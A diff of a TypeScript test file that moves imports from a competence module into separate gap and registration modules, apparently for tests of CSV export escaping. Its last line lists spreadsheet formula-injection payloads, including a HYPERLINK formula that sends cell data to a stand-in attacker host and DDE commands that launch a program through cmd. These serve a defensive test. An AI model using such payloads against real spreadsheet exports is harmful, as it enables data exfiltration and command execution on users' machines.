@@ -6,8 +6,10 @@ import { describe, expect, it } from 'vitest';
 import { silentLogger } from '../../src/logging/logger.js';
 import { createBroadcastService } from '../../src/modules/broadcast/broadcast-service.js';
 import { registerBroadcastRenderer } from '../../src/modules/broadcast/renderer.js';
-import { computeUnitGap, createGapContext } from '../../src/modules/competence/gap.js';
-import { registrationCsv, unitCoverageCsv, unitGapCsv } from '../../src/modules/competence/export.js';
+import { createGapContext } from '../../src/modules/gap/context.js';
+import { computeUnitGap } from '../../src/modules/gap/gap.js';
+import { unitCoverageCsv, unitGapCsv } from '../../src/modules/gap/export.js';
+import { registrationCsv } from '../../src/modules/registration/export.js';
 import { createDelivery } from '../../src/modules/delivery/delivery.js';
 import { createInstallationStatus } from '../../src/modules/delivery/installation-status.js';
 import { outboxCsv } from '../../src/modules/delivery/outbox.js';
@@ -16,7 +18,7 @@ import { fixedClock } from '../../src/scheduler/clock.js';
 import { csvField, csvRow, toCsv } from '../../src/shared/csv.js';
 import { openMemoryStore } from '../../src/storage/open-store.js';
 import { projectRoot } from '../../src/util/project-root.js';
-import { employee, NOW, registration, testContent } from '../modules/competence/fixtures.js';
+import { employee, NOW, registration, testContent } from '../modules/registration/fixtures.js';
 
 /** What a spreadsheet would run as a formula (or a DDE command) if written raw. */
 const HOSTILE = ['=HYPERLINK("https://angriper.example/?d="&A1;"Klikk her")', '+1+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '-2+3', '\t=1+1', '\r=1+1'];
